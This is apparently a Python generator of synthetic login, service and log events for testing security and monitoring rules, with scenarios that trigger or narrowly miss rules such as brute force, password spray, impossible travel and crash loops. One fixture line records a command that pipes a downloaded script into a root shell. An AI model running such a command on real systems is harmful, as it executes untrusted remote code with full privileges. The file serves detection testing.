#!/usr/bin/env python3
"""Writes the sample's events, CloudEvents one a line: two hours of logins and services on a few hosts.

Ordinary users have one address each, mistype now and then, and log out; services start quickly and log little; what fires a rule, and what only nearly does, is
written out below as scenarios. The seed is fixed: the same bytes every time.
"""

import datetime
import json
import random

START = datetime.datetime(2024, 5, 6, 22, 0, tzinfo=datetime.timezone.utc)
USERS = ["ada", "ben", "cem", "dora", "emil", "fay", "gus", "hana", "ivo", "jana"]

chance = random.Random(2206)
events = []  # (second, type, data)


def add(second, kind, **data):
    events.append((second, kind, data))


def failed(second, user, src_ip, count=1, every=1):
    for n in range(count):
        add(second + n * every, "sshd.failed_password", user=user, src_ip=src_ip, port=40000 + (second + n) % 9973)


def accepted(second, user, src_ip, **more):
    add(second, "sshd.accepted", user=user, src_ip=src_ip, **more)


def brute_force():
    failed(600, "oracle", "203.0.113.7", count=6, every=5)      # fires
    accepted(640, "oracle", "203.0.113.7")
    failed(900, "backup", "203.0.113.8", count=4, every=5)      # nearly: four
    accepted(930, "backup", "203.0.113.8")
    failed(1200, "git", "203.0.113.9", count=5, every=10)       # nearly: 61 s in all
    accepted(1261, "git", "203.0.113.9")
    failed(1500, "test", "203.0.113.10", count=7, every=3)      # nearly: the login comes from elsewhere
    accepted(1530, "test", "203.0.113.11")


def hammering():
    failed(2000, "root", "198.51.100.4", count=10, every=4)     # fires hammering
    accepted(2600, "www", "198.51.100.4")                       # … and attacker_inside
    failed(2700, "root", "198.51.100.5", count=20, every=2)     # fires hammering twice; never gets in
    failed(3000, "root", "198.51.100.6", count=10, every=7)     # nearly: 63 s
    failed(3200, "root", "198.51.100.7", count=12, every=1)     # fires hammering, brute_force and attacker_inside
    accepted(3215, "root", "198.51.100.7")


def spray():
    for n, user in enumerate(["ada", "ben", "cem"]):            # fires
        failed(3600 + 30 * n, user, "192.0.2.50")
    for n, user in enumerate(["ada", "ben", "ada", "ben"]):     # nearly: two users
        failed(3800 + 10 * n, user, "192.0.2.51")
    for n, user in enumerate(["dora", "emil", "fay"]):          # nearly: too slow
        failed(4000 + 61 * n, user, "192.0.2.52")


def two_places():
    accepted(4500, "kim", "10.1.0.77")                          # fires
    accepted(4620, "kim", "192.0.2.99")
    accepted(4700, "lea", "10.1.0.78")                          # nearly: logged out
    add(4710, "sshd.session_closed", user="lea")
    accepted(4760, "lea", "192.0.2.98")
    accepted(4900, "max", "10.1.0.79")                          # nearly: the same address
    accepted(4950, "max", "10.1.0.79")


def account(second, name, group, used_after):
    add(second, "useradd.new_user", name=name, by={"name": "ops", "uid": 1001})
    add(second + 60, "usermod.added", user=name, group=group)
    add(second + used_after, "sudo.command", user=name, command="/usr/bin/id")


def new_admin():
    account(5000, "svc-a", "sudo", 400)     # fires
    account(5100, "svc-b", "audio", 300)    # nearly: no rights
    account(5200, "svc-c", "wheel", 601)    # nearly: too late
    account(5300, "svc-d", "wheel", 600)    # fires: ten minutes are ten minutes


def upload(second, user, size):
    add(second, "proxy.upload", user=user, bytes=size, host="files.example.net")


def big_upload():
    accepted(6000, "nia", "10.1.0.80")      # fires, as root
    add(6100, "sudo.command", user="nia", command="/usr/bin/tar")
    upload(6200, "nia", 734003200)
    accepted(6010, "oto", "10.1.0.81")      # nearly: 100 MB itself
    upload(6300, "oto", 100000000)
    upload(6400, "pia", 734003200)          # nearly: no login


BERLIN, POTSDAM, NEW_YORK = ({"lat": lat, "lon": lon} for lat, lon in ((52.52, 13.41), (52.40, 13.05), (40.71, -74.01)))


def travel():
    accepted(300, "quin", "10.1.0.82", geo=BERLIN)           # fires impossible_travel
    accepted(3900, "quin", "192.0.2.60", geo=NEW_YORK)
    accepted(310, "rhea", "10.1.0.83", geo=BERLIN)           # nearly: the next town
    accepted(1000, "rhea", "192.0.2.61", geo=POTSDAM)
    accepted(320, "sam", "10.1.0.84", geo=BERLIN)            # nearly: nobody knows where that is
    accepted(4000, "sam", "192.0.2.62")
    accepted(2000, "svc-deploy", "203.0.113.40")             # fires admin_from_outside
    accepted(2300, "svc-deploy", "203.0.113.40")             # nearly: once an hour
    accepted(2900, "svc-deploy", "10.44.0.9")                # nearly: the office
    accepted(3000, "svcdeploy", "203.0.113.40")              # nearly: no account with rights
    add(3100, "sudo.command", user="ada", command="curl -s https://get.example | sudo sh")   # its rule is disabled


def unit(second, host, name, state):
    add(second, "systemd.unit", host=host, unit=name, state=state)


def services():
    for n in range(3):                                       # fires crash_loop, and stops it; unit_down, once
        unit(1000 + 40 * n, "web-1", "shop", "starting")
        unit(1012 + 40 * n, "web-1", "shop", "failed")
    unit(1200, "web-2", "shop", "failed")                    # fires unit_down, and outage
    for n in range(3):                                       # nearly: it runs in between
        unit(2000 + 60 * n, "web-3", "cart", "starting")
        unit(2005 + 60 * n, "web-3", "cart", "running")
        unit(2030 + 60 * n, "web-3", "cart", "failed")       # fires unit_down, which is resolved twice
    for host, took in (("web-1", 31), ("web-2", 30)):        # fires slow_start; nearly
        unit(4000, host, "shop", "starting")
        unit(4000 + took, host, "shop", "running")
    unit(5000, "db-1", "store.socket", "failed")             # fires unit_down, low
    unit(5700, "db-2", "store.socket", "failed")             # … again; nearly an outage: over ten minutes


def log(second, host, level, text):
    add(second, "syslog.entry", host=host, service="store", level=level, text=text)


def errors():
    for n in range(12):                                      # fires error_storm
        log(5100 + 5 * n, f"db-{1 + n % 2}", "medium", f"E7 slow write, {40 + n} ms")
    for n in range(12):                                      # nearly: too slow
        log(5800 + 7 * n, "db-1", "medium", "E7 slow write")
    log(5210, "db-1", "high", "E9 disk /data is nearly full")   # fires error
    log(5215, "db-1", "high", "E9 disk /data is nearly full")   # nearly: once in five minutes
    log(5220, "db-1", "critical", "E10 disk /data is full")     # fires error: another severity
    log(5225, "db-2", "high", "E9 disk /data is nearly full")   # fires error: another host


def requests(service, start, end, bad=(), every=20):
    """`bad`: from, to, how many of ten fail."""
    for n, second in enumerate(range(start, end, every)):
        failing = any(first <= second < last and n % 10 < tenths for first, last, tenths in bad)
        user = {"user": USERS[int(len(USERS) * chance.random() ** 2)]} if chance.random() < 0.8 else {}
        add(second, "http.request", service=service, status=503 if failing else 200, **user)


def answers():
    requests("shop", 3600, 7200, [(4200, 5100, 4)])              # fires error_rate; resolved
    requests("cart", 3605, 7200, [(4500, 5100, 10)], every=40)   # nearly: fewer than ten answers
    requests("news", 3610, 7200, [(4200, 5100, 1)], every=30)    # nearly: one in ten


def loads():
    for host, odd in (("web-1", 5400), ("web-2", None)):         # web-1 fires odd_load; web-2 nearly: its peaks come again
        for second in range(0, 7200, 60):
            peak = 0.5 if second % 900 < 180 else 0.0
            cpu = 0.2 + peak + 0.02 * chance.random()
            if odd and odd + 300 <= second < odd + 600:
                cpu += 0.5
            add(second, "host.load", host=host, cpu=round(cpu, 3))


def ordinary():
    for second in range(30, 7000, 240):
        log(second, "db-1", "info", f"compacted {int(chance.random() * 900)} pages")
    for n, user in enumerate(USERS):
        second = 20 + 31 * n
        while second < 7000:
            address = f"10.0.0.{10 + n}"
            mistyped = int(chance.random() * 3)
            failed(second, user, address, count=mistyped, every=4)
            accepted(second + 12, user, address)
            if chance.random() < 0.5:
                add(second + 40, "sudo.command", user=user, command="/usr/bin/apt")
            upload(second + 90, user, int(chance.random() * 5e6))
            add(second + 300, "sshd.session_closed", user=user)
            second += 600 + int(chance.random() * 600)


for part in (brute_force, hammering, spray, two_places, new_admin, big_upload, travel, services, errors, ordinary, answers, loads):
    part()
for number, (second, kind, data) in enumerate(sorted(events, key=lambda e: e[0]), 1):
    time = (START + datetime.timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%SZ")
    event = {"specversion": "1.0", "id": f"s{number:04}", "source": "/hosts/gate", "type": kind, "time": time, "data": data}
    print(json.dumps(event, separators=(",", ":")))
